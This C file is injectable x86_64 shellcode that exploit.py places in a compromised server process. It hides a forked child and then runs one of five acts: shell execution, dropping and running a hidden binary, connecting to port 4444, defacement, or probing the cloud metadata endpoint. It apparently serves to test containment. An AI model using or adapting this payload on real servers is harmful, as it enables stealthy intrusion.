/* What an attacker's code does once it runs inside a server. It is put into the memory of a process that runs, as an
 * exploit of a memory error would put it there, and started there: the process forks, the child goes on here.
 * No libc, no data of its own but constants, no relocation: `exploit.py` compiles it to a flat image (x86_64).
 */

__asm__(
    ".globl start\n"
    "start:\n"
    "  jmp 1f\n"
    "  .balign 4\n"
    "what:\n"
    "  .long 0\n" /* at offset 4: exploit.py writes the number of the act here */
    "1:\n"
    "  mov $56, %eax\n" /* clone without an exit signal: the server never hears of this child */
    "  xor %edi, %edi\n"
    "  xor %esi, %esi\n"
    "  xor %edx, %edx\n"
    "  xor %r10d, %r10d\n"
    "  xor %r8d, %r8d\n"
    "  syscall\n"
    "  test %eax, %eax\n"
    "  jz 2f\n"
    "  int3\n"
    "2:\n"
    "  and $-16, %rsp\n"
    "  sub $4096, %rsp\n"
    "  mov what(%rip), %edi\n"
    "  call act\n");

enum { READ = 0, WRITE = 1, CLOSE = 3, SOCKET = 41, CONNECT = 42, EXECVE = 59, EXIT_GROUP = 231, OPENAT = 257, FCHMOD = 91 };
enum { HERE = -100, O_WRONLY = 1, O_CREAT = 0100, O_TRUNC = 01000 };

static long call(long number, long a, long b, long c, long d) {
  register long r10 __asm__("r10") = d;
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return result;
}

static void run(const char *path, const char *first, const char *second) {
  const char *argv[] = {path, first, second, 0};
  const char *environment[] = {"PATH=/usr/bin:/bin", 0};
  call(EXECVE, (long)path, (long)argv, (long)environment, 0);
}

static long make(const char *path, int mode) {
  return call(OPENAT, HERE, (long)path, O_WRONLY | O_CREAT | O_TRUNC, mode);
}

static void drop(void) {
  char buffer[1024];
  long from = call(OPENAT, HERE, (long)"/usr/bin/touch", 0, 0);
  long to = make("/tmp/.dropped", 0755);
  for (long got; (got = call(READ, from, (long)buffer, sizeof buffer, 0)) > 0;) call(WRITE, to, (long)buffer, got, 0);
  call(FCHMOD, to, 0755, 0, 0);
  call(CLOSE, to, 0, 0, 0);
  run("/tmp/.dropped", "/srv/shared/dropped", 0);
}

static void reach(unsigned a, unsigned b, unsigned c, unsigned d, unsigned port) {
  unsigned char peer[16] = {2, 0, port >> 8, port & 255, a, b, c, d};
  long descriptor = call(SOCKET, 2, 1, 0, 0);
  if (call(CONNECT, descriptor, (long)peer, sizeof peer, 0) == 0) call(WRITE, descriptor, (long)"GET / HTTP/1.0\r\n\r\n", 18, 0);
  call(CLOSE, descriptor, 0, 0, 0);
}

__attribute__((used, noreturn)) void act(int what) {
  if (what == 1) run("/bin/sh", "-c", "echo $(id) > /srv/shared/shell");
  if (what == 2) drop();
  if (what == 3) reach(203, 0, 113, 66, 4444);
  if (what == 4) call(WRITE, make("/srv/shared/outside", 0644), (long)"defaced\n", 8, 0);
  if (what == 5) reach(169, 254, 170, 2, 80);
  for (;;) call(EXIT_GROUP, 0, 0, 0, 0);
}
